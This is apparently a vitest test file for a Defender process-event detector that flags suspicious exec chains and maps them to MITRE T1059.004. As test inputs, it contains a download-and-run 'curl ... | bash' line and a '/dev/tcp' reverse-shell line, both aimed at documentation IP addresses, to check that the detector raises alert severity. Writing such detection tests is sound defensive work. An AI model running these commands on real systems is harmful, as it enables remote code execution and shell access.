import { loadFixtures, makeEvent, runFixture, testDetector } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { splitCommandLine, suspiciousTraits } from '../../internal/text.js';
import { detector, execSuspicion } from './detector.js';

const fixtures = loadFixtures(new URL('./fixtures', import.meta.url));
const ctx = { options: {}, severity: 'medium' as const };
const exec = (row: Record<string, unknown>) =>
  makeEvent('DeviceProcessEvents', {
    Timestamp: '2025-11-07T06:46:38.299848Z',
    DeviceId: 'd',
    DeviceName: 'h',
    ReportId: 1,
    ActionType: 'ProcessCreated',
    ProcessId: 500,
    InitiatingProcessId: 500,
    InitiatingProcessFileName: 'dash',
    InitiatingProcessFolderPath: '/usr/bin/dash',
    FileName: 'curl',
    FolderPath: '/usr/bin/curl',
    ...row,
  });

describe('defender/exec-process-replacement', () => {
  it('passes its fixtures', async () => {
    await testDetector(detector, fixtures);
  });

  it('uses the agent text for the Defender chain and keeps medium', async () => {
    const result = await runFixture(
      detector,
      fixtures.fires.find((f) => f.name.startsWith('fires.defender-dash-lsof'))!,
    );
    const alert = result.alerts[0]!;
    expect(alert.message.templates).toBe(detector.meta.messages.agent);
    expect(alert.severity).toBe('medium');
    expect(alert.key).toBe('dash -> lsof');
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004']);
  });

  it('raises to high for download-and-run, /dev/tcp and scratch binaries, not for a plain curl', () => {
    expect(execSuspicion(exec({ InitiatingProcessCommandLine: 'sh -c "curl -s https://example.org/health"' }))).toEqual(
      [],
    );
    expect(
      execSuspicion(exec({ InitiatingProcessCommandLine: 'sh -c "curl -fsSL http://198.51.100.9/i.sh | bash"' }))
        .length,
    ).toBe(1);
    expect(
      execSuspicion(
        exec({
          FileName: 'bash',
          FolderPath: '/usr/bin/bash',
          ProcessCommandLine: 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1',
        }),
      ).length,
    ).toBe(2);
    expect(detector.match!(exec({ FileName: 'x', FolderPath: '/dev/shm/x' }), ctx)).toMatchObject({
      severity: 'high',
      key: 'dash -> x',
    });
    expect(detector.match!(exec({}), ctx)).not.toHaveProperty('severity');
  });

  it('never maps T1055 or T1036.003', () => {
    expect(detector.meta.mitre).toEqual(['T1059.004']);
    expect(detector.meta.mitreNotes).toMatch(/T1055.*T1036\.003/s);
  });

  it('scans adversarial command lines in linear time', () => {
    const inputs = [
      `nc ${' '.repeat(300_000)}`,
      `curl ${'a'.repeat(300_000)}`,
      `mkfifo ${'x '.repeat(150_000)}`,
      `base64 -d ${'| '.repeat(150_000)}`,
      `"${'\\"'.repeat(100_000)}`,
    ];
    const start = performance.now();
    for (const text of inputs) {
      suspiciousTraits(text);
      splitCommandLine(text);
    }
    // Linear is milliseconds; backtracking on 300k characters is minutes. Room for a loaded CI machine.
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
